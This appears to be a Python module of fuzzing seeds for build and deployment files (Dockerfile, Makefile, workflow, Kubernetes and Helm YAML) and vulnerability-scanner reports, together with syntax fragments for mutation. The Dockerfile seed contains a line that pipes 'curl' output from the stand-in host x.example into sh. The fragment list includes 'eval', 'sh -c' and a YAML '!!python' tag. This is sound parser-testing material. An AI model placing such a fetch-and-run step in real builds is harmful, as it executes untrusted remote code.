# ruff: noqa: E501 - texts as their formats have them
"""Hold the sound texts that fuzzing changes, and the pieces that mean something to a reader."""

TREE = {
    "Dockerfile": """\
# syntax=docker/dockerfile:1
ARG GO_VERSION=v1.26
FROM --platform=$BUILDPLATFORM golang:${GO_VERSION#v}-alpine AS build
ARG TARGETARCH
ENV CGO_ENABLED=0 GOFLAGS="-mod=vendor"
COPY . .
RUN --mount=type=cache,target=/root/.cache make build && ./hack/build.sh
RUN cat << 'EOF' > /etc/note && timeout 60 curl -sSL https://x.example/$(uname -m) | sh
FROM evil
EOF
FROM gcr.io/distroless/static:nonroot
COPY --from=build /out/a /a
USER 65532:65532
ENTRYPOINT ["/a"]
""",
    "Makefile": """\
GO ?= go
IMG := quay.io/sample/a:$(shell git describe)
include more.mk
ifeq ($(OS),linux)
FLAGS += -a
endif
build: vet
\t$(GO) build $(FLAGS) -ldflags "-w -X main.v=${VERSION}" -o out/a ./cmd/a
docker-build: ## build
\tdocker build -t $(IMG) --build-arg GO_VERSION=$(GO_VERSION) --target build -f Dockerfile .
define body
x
endef
%.o: %.c
\t@echo $(patsubst %.c,%.o,$<) $(foreach a,b c,$(call body,$(a)))
""",
    "hack/build.sh": "#!/bin/bash\nset -e\nfor a in b c; do\n  CGO_ENABLED=0 go build -o out/$a ./cmd/$a\ndone\n",
    ".github/workflows/publish.yaml": """\
on: {push: {tags: ["v*"]}}
env: {IMAGE: sample/a}
jobs:
  a:
    strategy: {matrix: {include: [{name: a, file: Dockerfile}, {name: b, file: b/Dockerfile}]}}
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: docker/build-push-action@v6
        with:
          file: ${{ matrix.file }}
          push: true
          tags: ghcr.io/${{ env.IMAGE }}-${{ matrix.name }}:${{ github.ref_name }}
          build-args: |
            GO_VERSION=1.26
      - run: |
          make docker-build IMG=quay.io/sample/a:latest && docker push quay.io/sample/a:latest
""",
    "config/manager.yaml": """\
apiVersion: apps/v1
kind: Deployment
metadata: {name: a, namespace: b}
spec:
  template:
    spec:
      securityContext: {runAsNonRoot: true}
      containers:
      - &c {name: a, image: quay.io/sample/a:v1, command: [/a, --flag], args: ["sh -c x"]}
      - {<<: *c, name: b}
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
""",
    "charts/a/Chart.yaml": "apiVersion: v2\nname: a\nversion: 1.0.0\nappVersion: 1.2.3\n",
    "charts/a/values.yaml": "image: {repository: quay.io/sample/a, tag: v1}\nother: {image: docker.io/library/redis:7}\n",
    "charts/a/templates/d.yaml": """\
{{- if .Values.on }}
kind: Deployment
spec:
  containers:
  - image: "{{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}"
{{- end }}
""",
    "go.mod": "module example.org/a\ngo 1.26\nrequire github.com/mattn/go-sqlite3 v1.14.0\n",
    "cmd/a/main.go": 'package main\nimport (\n\t"net/http"\n\t"sigs.k8s.io/controller-runtime"\n)\nfunc main() {}\n',
    "OWNERS": "approvers: [a]\nfilters:\n  '.*\\.go$': {approvers: [b]}\n",
}
_TRIVY = """{"SchemaVersion": 2, "ArtifactName": "quay.io/sample/a:v1", "ArtifactType": "container_image", "Metadata": {"OS":
{"Family": "debian", "Name": "13"}, "ImageConfig": {"created": "2026-01-01T00:00:00Z"}}, "Results": [{"Target": "a",
"Class": "os-pkgs", "Type": "debian", "Vulnerabilities": [{"VulnerabilityID": "CVE-2026-0001", "PkgName": "libc6",
"InstalledVersion": "2.41", "FixedVersion": "2.42", "Severity": "HIGH", "Layer": {"DiffID": "sha256:00"}}]}]}"""
_GRYPE = """{"matches": [{"vulnerability": {"id": "GHSA-aaaa-bbbb-cccc", "severity": "Critical", "fix": {"versions": ["1"],
"state": "fixed"}}, "relatedVulnerabilities": [{"id": "CVE-2026-1"}], "artifact": {"name": "a", "version": "0", "type":
"go-module", "locations": [{"path": "/a", "layerID": "sha256:00"}]}}], "source": {"type": "image", "target": {"userInput":
"a:v1", "layers": []}}, "descriptor": {"name": "grype", "version": "0.1", "timestamp": "2026-01-01T00:00:00Z"}}"""
_CYCLONEDX = """{"bomFormat": "CycloneDX", "specVersion": "1.6", "metadata": {"timestamp": "2026-01-01T00:00:00Z",
"component": {"name": "a:v1", "type": "container"}}, "components": [{"bom-ref": "x", "name": "a", "version": "1", "purl":
"pkg:golang/a@1"}], "vulnerabilities": [{"id": "CVE-2026-2", "ratings": [{"severity": "low"}], "affects": [{"ref": "x"}]}]}"""
_OSV = """{"results": [{"source": {"path": "a:v1", "type": "docker"}, "packages": [{"package": {"name": "a", "version":
"1", "ecosystem": "Go"}, "vulnerabilities": [{"id": "GO-2026-1", "aliases": ["CVE-2026-3"]}], "groups": [{"ids":
["GO-2026-1"], "max_severity": "7.5"}]}]}]}"""
PLACES = {
    "dockerfile": "Dockerfile",
    "makefile": "Makefile",
    "script": "hack/build.sh",
    "workflow": ".github/workflows/publish.yaml",
    "manifest": "config/manager.yaml",
    "chart": "charts/a/values.yaml",
    "template": "charts/a/templates/d.yaml",
    "gomod": "go.mod",
    "source": "cmd/a/main.go",
    "owners": "OWNERS",
}
SEEDS = {kind: [TREE[path]] for kind, path in PLACES.items()} | {"report": [_TRIVY, _GRYPE, _CYCLONEDX, _OSV]}
PIECES = (
    "<<A",
    "<< A",
    "<<-'A'",
    "${",
    "${X#",
    "${X//a/",
    "}",
    "$(",
    "$((",
    ")",
    "`",
    '"',
    "'",
    "[",
    "{",
    "}}",
    "{{",
    "$@",
    ":=",
    "=",
    ",",
    ":",
    "- ",
    "&a ",
    "*a",
    "<<: *a",
    "!!python ",
    "---",
    "? ",
    "\n",
    "\\\n",
    "\t",
    "#",
    "RUN ",
    "FROM ",
    "AS a",
    "COPY --from=0 ",
    "ARG A=$A$A",
    "ENV A=",
    "$A$A",
    "@sha256:",
    "timeout 60 ",
    "xargs ",
    "eval ",
    "sh -c '",
    "find -exec ",
    "\n",
    "if ",
    "for a in ",
    "case a in ",
    "esac",
    "[[ ",
    "define a\n",
    "endef",
    "$(foreach a,",
    "$(call a,",
    "$(shell ",
    "include ",
    "ifeq (",
    "${{ matrix.",
    "fromJSON(",
    "\n",
    "null",
    "1e999",
    "-1",
    "[[[[",
    '{"a":{"a":',
)
